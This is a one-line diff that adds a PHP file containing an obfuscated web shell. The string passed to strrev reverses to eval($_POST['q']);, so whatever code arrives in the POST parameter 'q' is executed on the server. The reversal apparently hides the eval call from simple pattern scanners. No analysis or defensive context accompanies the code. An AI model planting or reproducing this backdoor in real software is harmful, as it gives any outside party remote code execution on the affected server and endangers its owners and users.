@@ -1,0 +1,1 @@
+<?php eval(strrev(";)]'q'[TSOP_$(lave"));
